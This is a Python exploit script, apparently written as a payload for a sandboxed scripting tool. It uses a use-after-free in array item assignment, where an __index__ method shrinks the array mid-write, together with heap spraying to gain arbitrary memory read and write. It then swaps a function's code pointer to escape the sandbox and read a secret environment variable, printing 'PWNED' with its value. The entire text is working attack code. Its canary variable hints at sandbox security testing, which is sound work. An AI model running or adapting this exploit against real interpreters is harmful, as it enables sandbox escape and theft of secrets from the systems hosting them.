import array
import os
import textwrap

SIZE = 4_500_000
kept = []


class Shrinking:
    """Asked for its number after the index was judged, makes the array short and puts others where it was."""

    def __index__(self):
        del a[1:]
        spray = [array.array("Q", [0]) for _ in range(100_000)]
        kept.append(spray)
        for one in spray:
            if id(one) == target - 24:
                Shrinking.first = one
                return id(second) + 24
        raise ValueError("missed")



def environment():
    import os

    return os.environ


second = array.array("Q", [0])
near = [array.array("Q", [0]) for _ in range(1000)]
steps = sorted(id(y) - id(x) for x, y in zip(near, near[1:]))
step = steps[len(steps) // 2]
shift = sorted((id(x) % 16384 - 48) % step for x in near)[500]
for attempt in range(8):
    hole = bytes(8 * SIZE - 33)
    start = id(hole)
    del hole
    a = array.array("Q", [0]) * SIZE
    middle = start + 8 * SIZE - (1 << 21) - 49152 * attempt
    target = middle // 16384 * 16384 + 48 + step * 20 + shift + 24
    try:
        a[(target - start) // 8] = Shrinking()
    except ValueError:
        continue
    first = Shrinking.first
    before = first[0]

    def read(address):
        first[0] = address
        return second[0]

    def write(address, value):
        first[0] = address
        second[0] = value

    real = read(id(textwrap.dedent) + 24)
    mine = read(id(environment) + 24)
    write(id(environment) + 24, real)
    try:
        told = environment()["SCRIPTOOL_CANARY"]
    finally:
        write(id(environment) + 24, mine)
        first[0] = before
    return "PWNED " + told
return "no"
